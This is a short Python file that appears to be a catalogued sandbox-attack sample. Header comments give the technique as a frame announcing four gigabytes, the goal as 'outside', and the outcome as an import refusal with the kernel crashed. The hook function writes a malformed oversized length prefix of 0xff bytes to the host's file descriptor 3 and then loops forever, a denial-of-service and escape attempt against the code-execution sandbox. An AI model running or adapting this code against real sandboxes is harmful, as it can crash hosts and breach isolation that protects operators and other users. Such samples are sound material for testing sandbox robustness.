# origin: own
# technique: a frame that announces four gigabytes
# goal: outside
# outcome: refused:import-not-allowed
# kernel: CRASHED
import os
def frame(payload):
    return len(payload).to_bytes(4, "big") + payload

def answer(sequence, body):
    return frame(sequence.to_bytes(8, "big") + body)

def write(data):
    while data:
        data = data[os.write(3, data):]


def on_execute_post_login(event, api):
    write(b"\xff" * 65536)
    while True:
        pass
